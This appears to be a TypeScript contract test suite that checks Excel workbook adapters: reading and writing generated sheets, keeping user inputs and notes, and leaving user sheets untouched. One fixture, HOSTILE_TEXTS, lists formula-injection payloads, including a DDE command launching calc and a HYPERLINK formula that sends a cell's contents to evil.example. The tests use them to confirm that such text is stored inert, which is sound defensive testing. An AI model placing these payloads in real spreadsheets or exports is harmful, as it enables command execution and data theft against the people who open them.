/**
 * The Workbook CONTRACT: the behaviour every adapter of the port must have, written once and run against
 * each adapter through a harness (memory.contract.test.ts, xlsx.contract.test.ts; the Office adapter's
 * test will run it against a fake of the Excel JavaScript API). Only the port and the harness are used
 * here, never an adapter's internals.
 */
import { dateToExcelSerial } from "../../src/sheet/serial-dates";
import { isCellError, type CellValue } from "../../src/engine/data/table";
import type { Scalar, SheetModel } from "../../src/sheet/sheet-model";
import type { UserCell, UserSheetFixture } from "../../src/workbook/memory/memory-workbook";
import { SETTINGS_SHEET_NAME, type Workbook } from "../../src/sheet/port";
import { UserError } from "../../src/user-error";
import { exampleSheetModel } from "./example-model";

export interface WorkbookFixture {
  sheets: UserSheetFixture[];
  /** User-defined workbook names: name -> reference such as Sales!$D$4. */
  names?: Record<string, string>;
}

/** What a cell holds, as far as an adapter can tell. */
export interface InspectedCell {
  value: CellValue;
  formula?: string;
  numberFormat?: string;
  bold?: boolean;
}

export interface ContractHarness {
  /** A workbook holding the fixture's user sheets, tables and names. */
  create(fixture: WorkbookFixture): Promise<Workbook>;
  /** A user's edit in Excel; returns the workbook as the next build sees it. */
  editCell(wb: Workbook, sheet: string, address: string, cell: UserCell): Promise<Workbook>;
  /** Persists and loads again where the adapter has a persisted form (a file); else the same workbook. */
  reopen(wb: Workbook): Promise<Workbook>;
  inspect(wb: Workbook, sheet: string, address: string): Promise<InspectedCell>;
  /** Workbook-scoped names -> reference. */
  definedNames(wb: Workbook): Promise<Record<string, string>>;
}

const d = (y: number, m: number, day: number) => new Date(Date.UTC(y, m - 1, day));

/** A call list as a manager's sheet has it: one row per customer, Done and Note filled by the user. */
export function callListModel(customers: string[]): SheetModel {
  return {
    kind: "calls",
    name: "Calls",
    blocks: [
      { at: { row: 1, col: 1 }, rows: [["Call list"]] },
      {
        at: { row: 3, col: 1 },
        rows: [
          ["Customer ID", "Spend", "Done", "Note"],
          ...customers.map((c) => [c, Number(c.slice(1)) * 10, null, null]),
        ],
        table: { name: "LL_Calls", carry: { key: "Customer ID", userColumns: ["Done", "Note"] } },
      },
    ],
  };
}

/** An order export with a title, a blank row, then the header in row 3; odd cells on purpose. */
export const ORDERS: UserSheetFixture = {
  name: "Orders",
  rows: [
    ["Order export 2024"],
    [],
    ["Customer ID", "Order date", "Amount", "Note"],
    ["00042", d(2024, 1, 5), 12.5, "=1+1"],
    ["C-7", d(2024, 2, 1), "19.90", { error: "#N/A" }],
    ["C-9", d(2024, 3, 3), 7, null],
    [],
    ["C-10", d(2024, 4, 4), 3, "+plus"],
  ],
};

export const SALES: UserSheetFixture = {
  name: "Sales",
  rows: [
    ["Item", "Qty", "Price", "Total"],
    ["Pen", 3, 1.5, { formula: "B2*C2", result: 4.5 }],
    ["Ink", 2, 4, { formula: "B3*C3", result: 8 }],
    ["Sum", null, null, { formula: "SUM(D2:D3)", result: 12.5 }],
  ],
  tables: [{ name: "SalesTable", range: "A1:D3" }],
};

/**
 * Customer ids and names as hostile data has them: each would run as a formula, a DDE command or a
 * hyperlink if a spreadsheet took it for typed input (OWASP's CSV-injection list: =, +, -, @, tab, CR).
 */
export const HOSTILE_TEXTS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+86 138 0013 8000",
  "-2+3",
  "-",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\tplain",
] as const;

/** A generated sheet with the hostile texts in a table (ids) and in plain cells beside it (names). */
export function hostileTextModel(): SheetModel {
  return {
    kind: "hostile",
    name: "Hostile",
    blocks: [
      {
        at: { row: 1, col: 1 },
        rows: [["Customer ID", "Name"], ...HOSTILE_TEXTS.map((t) => [t, t])],
        table: { name: "LL_Hostile_Customers" },
      },
    ],
  };
}

export const STANDARD: WorkbookFixture = {
  sheets: [ORDERS, SALES],
  names: { SalesTotal: "Sales!$D$4" },
};

/** Dates as Excel serials, so adapters that return Date objects and those that return numbers compare. */
function serial(v: CellValue): number | undefined {
  if (v instanceof Date) return dateToExcelSerial(v);
  return typeof v === "number" ? v : undefined;
}

async function snapshotUserSheets(h: ContractHarness, wb: Workbook, sheets: UserSheetFixture[]) {
  const out: Record<string, unknown> = {};
  for (const s of sheets) {
    out[s.name] = await wb.readRange(s.name);
    for (let r = 1; r <= s.rows.length; r++) {
      for (let c = 1; c <= 4; c++) {
        const address = `${String.fromCharCode(64 + c)}${r}`;
        const cell = await h.inspect(wb, s.name, address);
        out[`${s.name}!${address}`] = { ...cell, value: serial(cell.value) ?? cell.value };
      }
    }
  }
  return out;
}

function exampleWith(changes: (m: SheetModel) => void): SheetModel {
  const model = exampleSheetModel();
  changes(model);
  return model;
}

/** Sets the default of an input cell of the example model. */
function setInputDefault(model: SheetModel, key: string, value: Scalar): void {
  for (const block of model.blocks) {
    for (const row of block.rows) {
      row.forEach((cell, i) => {
        if (typeof cell === "object" && cell !== null && !(cell instanceof Date) && cell.input === key) {
          row[i] = { ...cell, value };
        }
      });
    }
  }
}

export function describeWorkbookContract(adapter: string, h: ContractHarness): void {
  describe(`Workbook contract: ${adapter}`, () => {
    describe("reading", () => {
      it("lists the user sheets in order with their used ranges", async () => {
        const wb = await h.create(STANDARD);
        const sheets = await wb.listSheets();
        expect(sheets.map((s) => [s.name, s.position, s.visibility, s.usedRange, s.generatedKind])).toEqual([
          ["Orders", 0, "visible", "A1:D8", undefined],
          ["Sales", 1, "visible", "A1:D4", undefined],
        ]);
      });

      it("lists tables with their ranges", async () => {
        const wb = await h.create(STANDARD);
        expect(await wb.listTables()).toEqual([{ name: "SalesTable", sheet: "Sales", range: "A1:D3" }]);
      });

      it("reads a sheet whose header is in row 3, keeping text, numbers as text, dates and errors", async () => {
        const wb = await h.create(STANDARD);
        const t = await wb.readTable({ sheet: "Orders" });
        expect(t.headers).toEqual(["Customer ID", "Order date", "Amount", "Note"]);
        expect(t.firstRow).toBe(4);
        expect(t.columnLabels).toEqual(["A", "B", "C", "D"]);
        expect(t.source).toContain("Orders");
        // Five data rows: the blank row 7 is kept (as blanks), nothing after row 8.
        expect(t.columns[0]).toEqual(["00042", "C-7", "C-9", null, "C-10"]);
        expect(t.columns[1].map(serial)).toEqual([
          dateToExcelSerial(d(2024, 1, 5)),
          dateToExcelSerial(d(2024, 2, 1)),
          dateToExcelSerial(d(2024, 3, 3)),
          undefined,
          dateToExcelSerial(d(2024, 4, 4)),
        ]);
        expect(t.columns[2]).toEqual([12.5, "19.90", 7, null, 3]);
        expect(t.columns[3][0]).toBe("=1+1");
        expect(isCellError(t.columns[3][1]) && t.columns[3][1].error).toBe("#N/A");
        expect(t.columns[3][4]).toBe("+plus");
      });

      it("reads an Excel table by name, formulas as their results", async () => {
        const wb = await h.create(STANDARD);
        const t = await wb.readTable({ table: "salestable" });
        expect(t.headers).toEqual(["Item", "Qty", "Price", "Total"]);
        expect(t.firstRow).toBe(2);
        expect(t.columns[3]).toEqual([4.5, 8]);
      });

      it("reads a range, and cells as a grid", async () => {
        const wb = await h.create(STANDARD);
        const t = await wb.readTable({ sheet: "Orders", range: "B3:C6" });
        expect(t.headers).toEqual(["Order date", "Amount"]);
        expect(t.columnLabels).toEqual(["B", "C"]);
        expect(t.columns[1]).toEqual([12.5, "19.90", 7]);
        const grid = await wb.readRange("Sales", "A1:B2");
        expect(grid).toEqual([
          ["Item", "Qty"],
          ["Pen", 3],
        ]);
      });

      it("reads without a header row when told so", async () => {
        const wb = await h.create({
          sheets: [
            {
              name: "Raw",
              rows: [
                [1, 2],
                [3, 4],
              ],
            },
          ],
        });
        const t = await wb.readTable({ sheet: "Raw" }, { header: "none" });
        expect(t.headers).toEqual(["Column A", "Column B"]);
        expect(t.firstRow).toBe(1);
        expect(t.columns).toEqual([
          [1, 3],
          [2, 4],
        ]);
      });

      it("says which sheet is empty, has no header row, or does not exist", async () => {
        const wb = await h.create({
          sheets: [
            { name: "Blank", rows: [] },
            {
              name: "Numbers",
              rows: [
                [1, 2, 3],
                [4, 5, 6],
              ],
            },
          ],
        });
        await expect(wb.readTable({ sheet: "Blank" })).rejects.toThrow(UserError);
        await expect(wb.readTable({ sheet: "Blank" })).rejects.toThrow(/Blank is empty/);
        await expect(wb.readTable({ sheet: "Numbers" })).rejects.toThrow(
          /Numbers: no header row found in rows 1-2/,
        );
        await expect(wb.readTable({ sheet: "Nope" })).rejects.toThrow(/no sheet named "Nope"/);
        await expect(wb.readTable({ table: "Nope" })).rejects.toThrow(/no table named "Nope"/);
      });
    });

    describe("writing generated sheets", () => {
      it("writes a sheet model and reads back values, formulas, formats, tables and names", async () => {
        let wb = await h.create(STANDARD);
        const result = await wb.writeSheet(exampleSheetModel());
        expect(result).toEqual({
          kind: "example",
          sheetName: "LL Example",
          requestedName: "LL Example",
          renamed: false,
          replaced: false,
          keptInputs: [],
          carried: 0,
          keptRows: 0,
          notCarried: [],
        });
        wb = await h.reopen(wb);
        const sheets = await wb.listSheets();
        expect(sheets.map((s) => s.name)).toEqual(["Orders", "Sales", "LL Example"]);
        expect(sheets[2].generatedKind).toBe("example");
        expect(sheets.map((s) => s.name)).not.toContain(SETTINGS_SHEET_NAME);
        expect(await wb.listGeneratedSheets()).toEqual([{ kind: "example", sheetName: "LL Example" }]);
        expect(await wb.listTables()).toContainEqual({
          name: "LL_Example_Segments",
          sheet: "LL Example",
          range: "A4:F10",
        });

        const total = await h.inspect(wb, "LL Example", "B11");
        expect(total.formula).toBe("SUM(B5:B10)");
        expect(total.numberFormat).toBe("#,##0");
        expect((await h.inspect(wb, "LL Example", "D11")).formula).toBe("SUM(D5:D10)");
        expect((await h.inspect(wb, "LL Example", "C5")).numberFormat).toBe("0.0%");
        expect((await h.inspect(wb, "LL Example", "F5")).numberFormat).toBe('"$"#,##0.00');
        const date = await h.inspect(wb, "LL Example", "E5");
        expect(serial(date.value)).toBe(dateToExcelSerial(d(2024, 6, 28)));
        expect(date.numberFormat).toBe("yyyy-mm-dd");
        expect((await h.inspect(wb, "LL Example", "A1")).bold).toBe(true);

        const table = await wb.readTable({ table: "LL_Example_Segments" });
        expect(table.columns[1]).toEqual([120, 230, 150, 180, 200, 120]);
        expect(serial(table.columns[4][0])).toBe(dateToExcelSerial(d(2024, 6, 28)));

        const names = await h.definedNames(wb);
        expect(names.LL_AlertDays).toBe("'LL Example'!$B$14");
        expect(names.LL_Segments).toBe("'LL Example'!$A$5:$A$10");
        expect(names.SalesTotal).toBe("Sales!$D$4");
      });

      it("writes text that starts with =, +, - or @ as text, never as a formula", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(exampleSheetModel());
        wb = await h.reopen(wb);
        const expected = ['=HYPERLINK("http://x")', "+At risk", "-Hibernating", "@Lost"];
        for (const [i, text] of expected.entries()) {
          const cell = await h.inspect(wb, "LL Example", `A${7 + i}`);
          expect(cell.value).toBe(text);
          expect(cell.formula).toBeUndefined();
          expect(cell.numberFormat).toBe("@");
        }
      });

      it("writes ids and names that start with =, +, -, @, tab or CR as text, in plain cells and in tables", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(hostileTextModel());
        wb = await h.reopen(wb);
        for (const [i, text] of HOSTILE_TEXTS.entries()) {
          for (const column of ["A", "B"]) {
            const cell = await h.inspect(wb, "LL Hostile", `${column}${2 + i}`);
            expect({ text, value: cell.value, formula: cell.formula, format: cell.numberFormat }).toEqual({
              text,
              value: text,
              formula: undefined,
              format: "@",
            });
          }
        }
        const table = await wb.readTable({ table: "LL_Hostile_Customers" });
        expect(table.columns[0]).toEqual([...HOSTILE_TEXTS]);
      });

      it("replaces a generated sheet in place: same tab position, old content gone", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(exampleSheetModel());
        await wb.writeSheet({
          kind: "other",
          name: "Other",
          blocks: [{ at: { row: 1, col: 1 }, rows: [["x"]] }],
        });
        wb = await h.reopen(wb);
        const smaller = exampleWith((m) => {
          m.blocks = m.blocks.slice(0, 3);
          m.charts = m.charts?.slice(0, 1);
          m.names = m.names?.filter((n) => n.name !== "LL_RedemptionRate");
        });
        const result = await wb.writeSheet(smaller);
        expect(result.replaced).toBe(true);
        expect(result.sheetName).toBe("LL Example");
        wb = await h.reopen(wb);
        expect((await wb.listSheets()).map((s) => s.name)).toEqual([
          "Orders",
          "Sales",
          "LL Example",
          "LL Other",
        ]);
        expect((await h.inspect(wb, "LL Example", "A21")).value).toBeNull();
        expect((await h.inspect(wb, "LL Example", "A5")).value).toBe("Champions");
        // Names of the old sheet that the new model does not define are gone.
        expect(Object.keys(await h.definedNames(wb)).sort()).toEqual([
          "LL_AlertDays",
          "LL_Segments",
          "SalesTotal",
        ]);
      });

      it("with a footprint, replaces only the footprint and keeps what the user added outside it", async () => {
        const withFootprint = (m: SheetModel) => (m.footprint = "A1:Z60");
        let wb = await h.create(STANDARD);
        await wb.writeSheet(exampleWith(withFootprint));
        wb = await h.editCell(wb, "LL Example", "A70", 123);
        wb = await h.editCell(wb, "LL Example", "A71", { formula: "A70*2", result: 246 });
        wb = await h.editCell(wb, "LL Example", "AB3", "my note beside the model");
        // Inside the footprint the model owns every cell, also the ones it leaves empty.
        wb = await h.editCell(wb, "LL Example", "Y50", "typed inside");
        const smaller = exampleWith((m) => {
          withFootprint(m);
          m.blocks = m.blocks.slice(0, 3);
        });
        const result = await wb.writeSheet(smaller);
        expect(result.replaced).toBe(true);
        wb = await h.reopen(wb);
        expect((await wb.listSheets()).map((s) => s.name)).toEqual(["Orders", "Sales", "LL Example"]);
        expect((await h.inspect(wb, "LL Example", "A5")).value).toBe("Champions");
        expect((await h.inspect(wb, "LL Example", "A21")).value).toBeNull();
        expect((await h.inspect(wb, "LL Example", "Y50")).value).toBeNull();
        expect((await h.inspect(wb, "LL Example", "A70")).value).toBe(123);
        expect((await h.inspect(wb, "LL Example", "A71")).formula).toBe("A70*2");
        expect((await h.inspect(wb, "LL Example", "AB3")).value).toBe("my note beside the model");
      });

      it("refuses a model that places something outside its footprint", async () => {
        const wb = await h.create(STANDARD);
        await expect(wb.writeSheet(exampleWith((m) => (m.footprint = "A1:F10")))).rejects.toThrow(
          /outside the footprint A1:F10/,
        );
      });

      it("never overwrites a user sheet that has the generated sheet's name: it renames and says so", async () => {
        let wb = await h.create({
          sheets: [...STANDARD.sheets, { name: "LL Example", rows: [["mine", 1]] }],
        });
        const first = await wb.writeSheet(exampleSheetModel());
        expect(first).toMatchObject({
          sheetName: "LL Example (2)",
          requestedName: "LL Example",
          renamed: true,
        });
        wb = await h.reopen(wb);
        const second = await wb.writeSheet(exampleSheetModel());
        expect(second).toMatchObject({ sheetName: "LL Example (2)", renamed: true, replaced: true });
        wb = await h.reopen(wb);
        expect(await wb.readRange("LL Example")).toEqual([["mine", 1]]);
        const sheets = await wb.listSheets();
        expect(sheets.find((s) => s.name === "LL Example")?.generatedKind).toBeUndefined();
        expect(sheets.find((s) => s.name === "LL Example (2)")?.generatedKind).toBe("example");
      });

      it("leaves user sheets, their formulas and names exactly as they were", async () => {
        let wb = await h.create(STANDARD);
        const before = await snapshotUserSheets(h, wb, STANDARD.sheets);
        const namesBefore = await h.definedNames(wb);
        await wb.writeSheet(exampleSheetModel());
        await wb.writeSettings({ any: "thing" });
        wb = await h.reopen(wb);
        await wb.writeSheet(exampleSheetModel());
        await wb.deleteGeneratedSheet("example");
        wb = await h.reopen(wb);
        expect(await snapshotUserSheets(h, wb, STANDARD.sheets)).toEqual(before);
        expect(await h.definedNames(wb)).toEqual(namesBefore);
        expect((await h.inspect(wb, "Sales", "D4")).formula).toBe("SUM(D2:D3)");
      });

      it("deletes a generated sheet and the names it defined, and only that", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(exampleSheetModel());
        expect(await wb.deleteGeneratedSheet("example")).toBe(true);
        expect(await wb.deleteGeneratedSheet("example")).toBe(false);
        wb = await h.reopen(wb);
        expect((await wb.listSheets()).map((s) => s.name)).toEqual(["Orders", "Sales"]);
        expect(Object.keys(await h.definedNames(wb))).toEqual(["SalesTotal"]);
      });

      it("refuses to take over a user's defined name or table name", async () => {
        const wb = await h.create({ ...STANDARD, names: { ...STANDARD.names, LL_AlertDays: "Sales!$B$2" } });
        await expect(wb.writeSheet(exampleSheetModel())).rejects.toThrow(/already has a name "LL_AlertDays"/);
        const wb2 = await h.create({
          sheets: [ORDERS, { ...SALES, tables: [{ name: "LL_Example_Segments", range: "A1:D3" }] }],
        });
        await expect(wb2.writeSheet(exampleSheetModel())).rejects.toThrow(
          /table named "LL_Example_Segments"/,
        );
      });
    });

    describe("settings and input cells", () => {
      it("keeps settings in the workbook", async () => {
        let wb = await h.create(STANDARD);
        expect(await wb.readSettings()).toBeUndefined();
        const settings = {
          asOf: "2024-06-30",
          tiers: [{ name: "Gold", min: 1000 }],
          note: "x".repeat(70_000),
        };
        await wb.writeSettings(settings);
        wb = await h.reopen(wb);
        expect(await wb.readSettings()).toEqual(settings);
        expect((await wb.listSheets()).map((s) => s.name)).toEqual(["Orders", "Sales"]);
      });

      it("keeps the member state in its own hidden sheet, listed nowhere, replaced whole", async () => {
        let wb = await h.create(STANDARD);
        expect(await wb.readMemberState()).toBeUndefined();
        const rows = [
          ["title", "format 1", "2024-06-30"],
          ["00123", "gold", "1", "2024-06-01"],
          ["=SUM(A1)", "member", "0", ""],
        ];
        await wb.writeMemberState(rows);
        await wb.writeMemberState([rows[0], rows[1]]);
        wb = await h.reopen(wb);
        const back = (await wb.readMemberState()) ?? [];
        // Text stays text (the id's leading zeros, the "=" of an id), and the shorter state replaced the longer.
        // A rectangular read (Excel's used range) pads rows with blanks: the state's reader ignores them.
        const trimmed = back.map((r) => {
          const cells = r.map((v) => v ?? "");
          while (cells.length > 0 && cells[cells.length - 1] === "") cells.pop();
          return cells;
        });
        expect(trimmed).toEqual([rows[0], rows[1]]);
        expect((await wb.listSheets()).map((s) => s.name)).toEqual(["Orders", "Sales"]);
      });

      it("keeps the values users typed into input cells when the sheet is rebuilt", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(exampleSheetModel());
        wb = await h.editCell(wb, "LL Example", "B14", 30);
        wb = await h.editCell(wb, "LL Example", "B16", { formula: '"Caut"&"ious"', result: "Cautious" });
        const inputs = await wb.readInputs("example");
        expect(inputs.map((i) => [i.key, i.address, i.edited])).toEqual([
          ["alerts.days", "B14", true],
          ["projection.redemption", "B15", false],
          ["projection.scenario", "B16", true],
        ]);
        expect(inputs[0].value).toBe(30);
        expect(inputs[0].defaultValue).toBe(90);
        expect(inputs[2].formula).toBe('"Caut"&"ious"');

        // The builder's defaults change; the user's edits win, the untouched input takes the new default.
        const rebuilt = exampleWith((m) => {
          setInputDefault(m, "alerts.days", 60);
          setInputDefault(m, "projection.redemption", 0.7);
        });
        const result = await wb.writeSheet(rebuilt);
        expect(result.keptInputs.sort()).toEqual(["alerts.days", "projection.scenario"]);
        wb = await h.reopen(wb);
        expect((await h.inspect(wb, "LL Example", "B14")).value).toBe(30);
        expect((await h.inspect(wb, "LL Example", "B15")).value).toBe(0.7);
        expect((await h.inspect(wb, "LL Example", "B16")).formula).toBe('"Caut"&"ious"');
        const after = await wb.readInputs("example");
        expect(after.map((i) => [i.key, i.edited, i.defaultValue])).toEqual([
          ["alerts.days", true, 60],
          ["projection.redemption", false, 0.7],
          ["projection.scenario", true, "Base"],
        ]);
      });

      it("carries what users typed in a table to the same customer's row, and keeps rows of customers gone", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(callListModel(["C1", "C2", "C3"]));
        // Table at A3:D6 (header in row 3): Customer ID, Spend, Done, Note.
        wb = await h.editCell(wb, "LL Calls", "D5", "call back Tuesday"); // C2's note
        wb = await h.editCell(wb, "LL Calls", "C6", "yes"); // C3 done
        wb = await h.editCell(wb, "LL Calls", "E3", "Called?"); // a column added beside the table
        wb = await h.editCell(wb, "LL Calls", "E4", "Mon"); // C1 called
        wb = await h.editCell(wb, "LL Calls", "H30", "my own memo"); // anywhere else on the sheet
        wb = await h.reopen(wb);

        // Next week: C2 is gone, C4 is new, the order changed.
        const result = await wb.writeSheet(callListModel(["C3", "C4", "C1"]));
        expect(result.carried).toBe(2);
        expect(result.keptRows).toBe(1);
        expect(result.notCarried).toEqual([]);
        wb = await h.reopen(wb);
        const grid = await wb.readRange("LL Calls", "A3:E6");
        expect(grid).toEqual([
          ["Customer ID", "Spend", "Done", "Note", "Called?"],
          ["C3", 30, "yes", null, null],
          ["C4", 40, null, null, null],
          ["C1", 10, null, null, "Mon"],
        ]);
        expect((await wb.listTables()).find((t) => t.name === "LL_Calls")?.range).toBe("A3:E6");
        // C2's note is kept below the table, in a table of its own, with the customer id.
        const kept = (await wb.listTables()).find((t) => t.name === "LL_Calls_Kept");
        expect(kept).toBeDefined();
        const keptRows = await wb.readRange("LL Calls", kept?.range);
        expect(keptRows).toEqual([
          ["Customer ID", "Note"],
          ["C2", "call back Tuesday"],
        ]);
        expect((await h.inspect(wb, "LL Calls", "H30")).value).toBe("my own memo");

        // C2 comes back (its note returns to its row), C3 leaves (its "yes" is kept).
        wb = await h.reopen(wb);
        const back = await wb.writeSheet(callListModel(["C1", "C2"]));
        expect(back.keptRows).toBe(1);
        wb = await h.reopen(wb);
        expect(await wb.readRange("LL Calls", "A3:E5")).toEqual([
          ["Customer ID", "Spend", "Done", "Note", "Called?"],
          ["C1", 10, null, null, "Mon"],
          ["C2", 20, null, "call back Tuesday", null],
        ]);
        const keptNow = (await wb.listTables()).find((t) => t.name === "LL_Calls_Kept");
        expect(await wb.readRange("LL Calls", keptNow?.range)).toEqual([
          ["Customer ID", "Done"],
          ["C3", "yes"],
        ]);
        expect((await h.inspect(wb, "LL Calls", "H30")).value).toBe("my own memo");
      });

      it("titles a Kept notes table in the sheet's language", async () => {
        const zh = (customers: string[]): SheetModel => ({ ...callListModel(customers), language: "zh-CN" });
        let wb = await h.create(STANDARD);
        await wb.writeSheet(zh(["C1", "C2"]));
        wb = await h.editCell(wb, "LL Calls", "D5", "周二回电"); // C2's note
        wb = await h.reopen(wb);
        expect((await wb.writeSheet(zh(["C1"]))).keptRows).toBe(1);
        wb = await h.reopen(wb);
        const kept = (await wb.listTables()).find((t) => t.name === "LL_Calls_Kept");
        // The title and its note stand in the two rows above the kept table's header (column A).
        const headerRow = Number(/^A(\d+):/.exec(kept?.range ?? "")?.[1]);
        expect(headerRow).toBeGreaterThan(5);
        const above = await wb.readRange("LL Calls", `A${headerRow - 2}:A${headerRow - 1}`);
        expect(above[0]?.[0]).toBe("保留的备注");
        expect(String(above[1]?.[0])).not.toMatch(/[A-Za-z]/);
        expect(await wb.readRange("LL Calls", kept?.range)).toEqual([
          ["Customer ID", "Note"],
          ["C2", "周二回电"],
        ]);
      });

      it("reports what the user wrote where the rebuilt sheet now writes", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(callListModel(["C1"]));
        wb = await h.editCell(wb, "LL Calls", "A7", "typed under the table");
        wb = await h.reopen(wb);
        const result = await wb.writeSheet(callListModel(["C1", "C2", "C3", "C4"]));
        expect(result.notCarried).toEqual([
          { kind: "cell", sheet: "LL Calls", cell: "A7", text: "typed under the table" },
        ]);
      });

      it("writes the new defaults when asked not to keep inputs", async () => {
        let wb = await h.create(STANDARD);
        await wb.writeSheet(exampleSheetModel());
        wb = await h.editCell(wb, "LL Example", "B14", 30);
        const result = await wb.writeSheet(exampleSheetModel(), { keepInputs: false });
        expect(result.keptInputs).toEqual([]);
        expect((await h.inspect(wb, "LL Example", "B14")).value).toBe(90);
      });
    });
  });
}
